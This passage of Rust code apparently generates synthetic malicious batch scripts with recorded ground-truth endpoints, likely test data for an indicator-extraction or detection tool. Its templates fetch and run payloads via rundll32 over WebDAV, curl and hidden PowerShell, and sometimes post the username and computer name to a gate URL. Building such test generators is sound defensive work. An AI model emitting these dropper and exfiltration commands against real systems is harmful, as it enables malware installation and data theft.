    let (host, port) = truth.endpoint(dice);
    let host = if dice.chance(50) { hide(dice, &host, &mut out) } else { host };
    let (file, port) = (dice.name(), port.to_string());
    let form = dice.pick(&[
        "rundll32 \\\\@HOST@@@PORT@\\DavWWWRoot\\@FILE@.dll,entry\n",
        "pushd \\\\@HOST@@@PORT@\\DavWWWRoot\\\nstart /wait cmd /c @FILE@.bat\npopd\n",
        "set \"share=\\\\@HOST@@SSL@@PORT@\\DavWWWRoot\\@FILE@\"\ncopy \"%share%.exe\" \"%TEMP%\\@FILE@.exe\" >nul\nstart \"\" \"%TEMP%\\@FILE@.exe\"\n",
        "net use Y: \\\\@HOST@@@PORT@\\DavWWWRoot /persistent:no >nul\nwscript.exe Y:\\@FILE@.wsf\nnet use Y: /delete /y >nul\n",
    ]);
    out + &put(form, &[("HOST", &host), ("PORT", &port), ("FILE", &file)])
}

/// Several files of one server, and word home.
fn many(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let origin = Parts::of(&dice.url(&[""])).origin();
    let files: Vec<String> = (0..2 + dice.below(3))
        .map(|_| format!("{}.{}", dice.name(), dice.pick(&["exe", "dll", "dat", "cab"])))
        .collect();
    for file in &files {
        truth.joined(&origin, &format!("/{file}"));
    }
    let word = hide(dice, &origin, &mut out);
    let base = mixed(dice, 4);
    let _ = writeln!(out, "set \"{base}={word}\"");
    match dice.below(3) {
        0 => {
            for file in &files {
                let _ = writeln!(out, "curl -s -o \"%TEMP%\\{file}\" \"%{base}%/{file}\"");
            }
        }
        1 => {
            let _ = writeln!(
                out,
                "for %%f in ({}) do (\n  curl -s -k -o \"%TEMP%\\%%f\" \"%{base}%/%%f\"\n)",
                files.join(" ")
            );
        }
        _ => {
            let _ = writeln!(
                out,
                "for %%f in ({}) do call :fetch %%f\ngoto done\n:fetch\npowershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('%{base}%/%1','%TEMP%\\%1')\"\nexit /b\n:done",
                files.join(" ")
            );
        }
    }
    let _ = writeln!(out, "start \"\" \"%TEMP%\\{}\"", files[0]);
    if dice.chance(40) {
        let gate = truth.url(dice, &["/report", "/api"]);
        let gate = address(dice, &gate, &mut out);
        let _ = writeln!(out, "curl -s -X POST -d \"u=%USERNAME%&c=%COMPUTERNAME%\" {gate} >nul");
    }
    out
}
